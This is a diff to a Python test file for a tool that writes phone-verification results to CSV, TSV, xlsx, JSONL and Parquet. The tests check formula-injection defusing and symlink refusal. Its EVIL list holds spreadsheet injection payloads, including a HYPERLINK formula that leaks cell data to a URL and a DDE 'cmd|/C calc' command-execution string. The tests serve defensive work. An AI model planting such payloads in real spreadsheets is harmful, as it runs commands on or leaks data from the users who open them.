@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import stat
 from collections.abc import Iterator
 from pathlib import Path
@@ -84,10 +85,11 @@ def test_round_trip_keeps_last_record_per_row_in_row_order(tmp_path: Path, fmt: 
     assert _texts(rows, "phone_input")[0] == "+44 20 7946 0958"
     assert _texts(rows, "user")[0] == '{"userId":"U1","phone":"+442079460958"}'
     if fmt in ("jsonl", "ndjson", "parquet", "xlsx"):
-        # typed formats keep real types: ints, booleans and nulls
+        # typed formats keep real types: ints, booleans and nulls (Excel: booleans as text)
         assert _texts(rows, "row") == [1, 2, 3, 4]
         assert _texts(rows, "http_status")[:2] == [200, 503]
-        assert _texts(rows, "verified_phone")[:2] == [True, None]
+        flag = "true" if fmt == "xlsx" else True
+        assert _texts(rows, "verified_phone")[:2] == [flag, None]
         assert _texts(rows, "reason")[:2] == [None, "RETRIES_EXHAUSTED"]
     else:
         assert _texts(rows, "verified_phone")[:2] == ["true", None]
@@ -114,23 +116,39 @@ def test_parquet_is_written_in_row_groups(tmp_path: Path, monkeypatch: pytest.Mo
     assert frame["row"].to_list() == list(range(1, 1001))
 
 
-def test_xlsx_cells_are_text_header_bold_and_frozen(tmp_path: Path) -> None:
+def test_xlsx_cells_are_text_header_bold_frozen_filtered_and_fitted(tmp_path: Path) -> None:
     out = tmp_path / "result.xlsx"
-    write_results([_record(1, loginId="=HYPERLINK(1)", phone_input="0044 20 7946 0958")], out)
+    long_error = "x" * 500
+    records = [
+        _record(1, loginId="=HYPERLINK(1)", phone_input="0044 20 7946 0958"),
+        _record(2, error_message=long_error, verified_phone=False),
+    ]
+    write_results(records, out)
     sheet = openpyxl.load_workbook(out).active
     assert sheet is not None
     header = {cell.value: cell for cell in sheet[1]}
     assert all(cell.font.b for cell in header.values())
     assert sheet.freeze_panes == "A2"
+    last = openpyxl.utils.get_column_letter(len(RESULT_COLUMNS))
+    assert sheet.auto_filter.ref == f"A1:{last}3"
+    widths = {
+        name: sheet.column_dimensions[cell.column_letter].width for name, cell in header.items()
+    }
+    assert widths["error_message"] == pytest.approx(60, abs=1)  # as wide as it needs, capped
+    assert widths["loginId"] >= len("user2@example.com")
+    assert widths["user"] >= len('{"userId":"U1","phone":"+442079460958"}')
+    assert widths["row"] < 12  # a narrow column stays narrow
     column = {name: cell.column for name, cell in header.items()}
     cells = {name: sheet.cell(row=2, column=col) for name, col in column.items()}
     for name in ("loginId", "phone_input", "phone", "status", "user", "finished_at"):
         assert cells[name].data_type == "s", name
     assert cells["phone"].value == "+442079460958"
     assert cells["phone_input"].value == "0044 20 7946 0958"
-    assert cells["loginId"].value == "=HYPERLINK(1)"  # text, not a formula
+    assert cells["loginId"].value == "'=HYPERLINK(1)"  # text, not a formula, and defused
     assert (cells["row"].data_type, cells["row"].value) == ("n", 1)
-    assert (cells["verified_phone"].data_type, cells["verified_phone"].value) == ("b", True)
+    # booleans are text, as in CSV and as verified_before: what the README says
+    assert (cells["verified_phone"].data_type, cells["verified_phone"].value) == ("s", "true")
+    assert sheet.cell(row=3, column=column["verified_phone"]).value == "false"
     assert cells["reason"].value is None
 
 
@@ -167,7 +185,8 @@ def test_delimited_defuses_formulas_but_not_phones(tmp_path: Path, fmt: str) -> 
     assert rows[0]["error_message"] == "'@SUM(1)"
     assert rows[0]["user"] == "'\tx"
     assert rows[0]["phone_input"] == "+44 20 7946 0958"
-    assert rows[0]["phone"] == "+442079460958" and rows[0]["status"] == "-neg"
+    assert rows[0]["phone"] == "+442079460958" and rows[0]["status"] == "'-neg"
+    # "-5" is phone-shaped: left as it is
     assert rows[1]["loginId"] == "-5" and rows[1]["phone_input"] == "'\rx"
 
 
@@ -313,7 +332,7 @@ def test_check_output_path_errors(tmp_path: Path) -> None:
     cases = {
         tmp_path / "r.txt": f"unsupported result file type '.txt': use {formats}",
         source: "is the input file",
-        link: "is the input file",
+        link: "is a symbolic link",
         hard: "is the input file",
         tmp_path / "sub" / ".." / "in.csv": "is the input file",
         folder: "is a directory",
@@ -334,3 +353,80 @@ def test_check_output_path_probes_the_directory(
     monkeypatch.setattr("tempfile.mkstemp", refuse)  # root could write anywhere
     with pytest.raises(OutputError, match=r"cannot write in .* \(Permission denied\)"):
         check_output_path(tmp_path / "r.csv", None)
+
+
+EVIL = ['+HYPERLINK("http://x?"&A1,"y")', "-2+3+cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx"])
+def test_every_text_column_is_defused_for_spreadsheets(tmp_path: Path, fmt: str) -> None:
+    out = tmp_path / f"result.{fmt}"
+    columns = (*RESULT_COLUMNS, "phone_before", "verified_before")
+    record = _record(
+        1,
+        loginId=EVIL[0],
+        user_id=EVIL[1],
+        error_message="=1+1",
+        error_code="@x",
+        user='+{"a":1}',
+        phone_before="-1+1",
+        verified_before="false",
+    )
+    write_results(
+        [record, _record(2, loginId=EVIL[1], phone_before="+1 (415) 555-0100")],
+        out,
+        columns=columns,
+    )
+    rows = _read(out)
+    assert rows[0]["loginId"] == "'" + EVIL[0]
+    assert rows[0]["user_id"] == "'" + EVIL[1]
+    assert rows[0]["error_message"] == "'=1+1"
+    assert rows[0]["error_code"] == "'@x"
+    assert rows[0]["user"] == '\'+{"a":1}'
+    assert rows[0]["phone_before"] == "'-1+1"  # not phone-shaped: a + inside
+    assert rows[1]["loginId"] == "'" + EVIL[1]
+    # phone-shaped values stay exact
+    assert rows[0]["phone"] == "+442079460958"
+    assert rows[0]["phone_input"] == "+44 20 7946 0958"
+    assert rows[1]["phone_before"] == "+1 (415) 555-0100"
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
+def test_formats_for_programs_are_written_as_they_are(tmp_path: Path, fmt: str) -> None:
+    out = tmp_path / f"result.{fmt}"
+    write_results([_record(1, loginId=EVIL[0])], out)
+    assert _read(out)[0]["loginId"] == EVIL[0]
+
+
+def test_defuse_is_undone_by_undos_reader(tmp_path: Path) -> None:
+    """Every string survives defuse + undo's undefuse, and a defused cell never starts a formula."""
+    from hypothesis import given, settings
+    from hypothesis import strategies as st
+
+    from batchphone.undo import _undefuse
+
+    alphabet = st.sampled_from(list("'=+-@\t\r0123456789 ().-/aZ|!\"&"))
+
+    @settings(max_examples=300, deadline=None)
+    @given(st.lists(st.text(alphabet, max_size=8), min_size=1, max_size=20))
+    def check(values: list[str]) -> None:
+        defused = [writer.defuse(value) for value in values]
+        for value, cell in zip(values, defused, strict=True):
+            assert cell == value or cell == "'" + value
+            starts_formula = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+            assert not starts_formula or re.fullmatch(r"\+?[0-9 ().\-/]+", cell)
+        back = pl.DataFrame({"c": defused}).select(_undefuse(pl.col("c")))["c"].to_list()
+        assert back == values
+
+    check()
+
+
+def test_a_symlink_at_the_result_path_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious\n")
+    out = tmp_path / "result.csv"
+    out.symlink_to(victim)
+    with pytest.raises(OutputError, match="is a symbolic link"):
+        write_results([_record(1)], out)
+    assert out.is_symlink() and victim.read_text() == "precious\n"
+    assert sorted(os.listdir(tmp_path)) == ["result.csv", "victim.txt"]
